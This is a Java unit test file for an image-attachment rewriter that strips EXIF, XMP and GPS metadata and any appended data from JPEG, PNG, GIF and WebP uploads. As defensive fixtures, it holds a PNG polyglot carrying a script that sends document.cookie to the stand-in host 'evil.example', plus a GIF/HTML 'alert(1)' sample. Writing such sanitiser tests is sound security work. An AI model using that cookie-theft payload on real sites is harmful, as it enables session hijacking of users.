package dev.tandem.adapters.attachment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tandem.bot.attachment.FileType;
import dev.tandem.bot.attachment.UnsupportedAttachmentException;
import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;

class ImageIoRewriterTest {

    /** A 1×1 lossless WebP (RIFF, WEBP, one VP8L chunk). */
    private static final byte[] WEBP_PIXEL = Base64.getDecoder().decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");

    private final ImageIoRewriter rewriter = new ImageIoRewriter();

    @Test
    void givenAJpegWithGpsInItsExif_whenRewritten_thenThePixelsStayAndTheExifIsGone() throws IOException {
        byte[] photo = withExif(jpeg(40, 20), exif(1, "GPS 52.2297N 21.0122E"));

        byte[] clean = rewriter.rewrite(FileType.JPEG, photo);

        assertThat(contains(photo, "GPS 52.2297N")).isTrue();
        assertThat(contains(clean, "GPS 52.2297N")).isFalse();
        assertThat(contains(clean, "Exif")).isFalse();
        BufferedImage image = ImageIO.read(new ByteArrayInputStream(clean));
        assertThat(image.getWidth()).isEqualTo(40);
        assertThat(image.getHeight()).isEqualTo(20);
    }

    @Test
    void givenAPhoneShotHeldUpright_whenRewritten_thenThePixelsAreTurnedAsItsExifSaid() throws IOException {
        byte[] sideways = withExif(jpeg(40, 20), exif(6, "phone"));

        BufferedImage image = ImageIO.read(new ByteArrayInputStream(rewriter.rewrite(FileType.JPEG, sideways)));

        assertThat(image.getWidth()).isEqualTo(20);
        assertThat(image.getHeight()).isEqualTo(40);
    }

    @Test
    void givenAPngWithAScriptAppended_whenRewritten_thenOnlyThePictureRemains() throws IOException {
        byte[] polyglot = concat(png(8, 8), "<script>document.location='//evil.example/'+document.cookie</script>"
                .getBytes(StandardCharsets.US_ASCII));

        byte[] clean = rewriter.rewrite(FileType.PNG, polyglot);

        assertThat(contains(clean, "<script>")).isFalse();
        assertThat(ImageIO.read(new ByteArrayInputStream(clean)).getWidth()).isEqualTo(8);
    }

    @Test
    void givenAGifHeaderFollowedByHtml_whenRewritten_thenItIsRefusedAsUnreadable() {
        byte[] fake = "GIF89a<html><script>alert(1)</script></html>".getBytes(StandardCharsets.US_ASCII);

        assertThatThrownBy(() -> rewriter.rewrite(FileType.GIF, fake))
                .isInstanceOf(UnsupportedAttachmentException.class)
                .hasMessageContaining("cannot be read");
    }

    @Test
    void givenAWebpWithExifAndXmp_whenRewritten_thenThoseChunksAndTheirFlagsAreGone() {
        byte[] vp8l = Arrays.copyOfRange(WEBP_PIXEL, 12, WEBP_PIXEL.length);
        byte[] vp8x = chunk("VP8X", new byte[] {0x0C, 0, 0, 0, 0, 0, 0, 0, 0, 0});
        byte[] tagged = riff(concat(vp8x, vp8l, chunk("EXIF", "GPS 52.2297N".getBytes(StandardCharsets.US_ASCII)),
                chunk("XMP ", "<x:xmpmeta/>".getBytes(StandardCharsets.US_ASCII))));

        byte[] clean = rewriter.rewrite(FileType.WEBP, concat(tagged, "<script>".getBytes(StandardCharsets.US_ASCII)));

        assertThat(clean).isEqualTo(riff(concat(chunk("VP8X", new byte[10]), vp8l)));
        assertThat(WebpMetadata.strip(WEBP_PIXEL)).isEqualTo(WEBP_PIXEL);
    }

    @Test
    void givenAWebpWhoseChunksRunPastItsEnd_whenRewritten_thenItIsRefused() {
        byte[] broken = Arrays.copyOf(WEBP_PIXEL, WEBP_PIXEL.length);
        broken[16] = 0x7F;   // the VP8L chunk claims 127 bytes

        assertThatThrownBy(() -> rewriter.rewrite(FileType.WEBP, broken))
                .isInstanceOf(UnsupportedAttachmentException.class);
    }

    private static byte[] jpeg(int width, int height) throws IOException {
        return encoded(width, height, "jpeg");
    }

    private static byte[] png(int width, int height) throws IOException {
        return encoded(width, height, "png");
    }

    private static byte[] encoded(int width, int height, String format) throws IOException {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        var graphics = image.createGraphics();
        graphics.setColor(Color.ORANGE);
        graphics.fillRect(0, 0, width / 2, height);
        graphics.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(image, format, out);
        return out.toByteArray();
    }

    /** An APP1 Exif segment: a big-endian TIFF with one entry, the orientation, and a comment after it. */
    private static byte[] exif(int orientation, String comment) {
        byte[] text = comment.getBytes(StandardCharsets.US_ASCII);
        byte[] tiff = concat(new byte[] {'M', 'M', 0, 42, 0, 0, 0, 8, 0, 1, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0,
            (byte) orientation, 0, 0, 0, 0, 0, 0}, text);
        byte[] body = concat("Exif\0\0".getBytes(StandardCharsets.US_ASCII), tiff);
        int length = body.length + 2;
        return concat(new byte[] {(byte) 0xFF, (byte) 0xE1, (byte) (length >> 8), (byte) length}, body);
    }

    /** The segment right after the JFIF one (APP0), where cameras put theirs. */
    private static byte[] withExif(byte[] jpeg, byte[] segment) {
        int afterApp0 = 4 + ((jpeg[4] & 0xFF) << 8 | (jpeg[5] & 0xFF));
        return concat(Arrays.copyOf(jpeg, afterApp0), segment, Arrays.copyOfRange(jpeg, afterApp0, jpeg.length));
    }

    private static byte[] chunk(String fourCc, byte[] data) {
        byte[] header = concat(fourCc.getBytes(StandardCharsets.US_ASCII), le32(data.length));
        return data.length % 2 == 1 ? concat(header, data, new byte[1]) : concat(header, data);
    }

    private static byte[] riff(byte[] chunks) {
        return concat("RIFF".getBytes(StandardCharsets.US_ASCII), le32(chunks.length + 4),
                "WEBP".getBytes(StandardCharsets.US_ASCII), chunks);
    }

    private static byte[] le32(int value) {
        return new byte[] {(byte) value, (byte) (value >>> 8), (byte) (value >>> 16), (byte) (value >>> 24)};
    }

    private static boolean contains(byte[] bytes, String text) {
        return new String(bytes, StandardCharsets.ISO_8859_1).contains(text);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
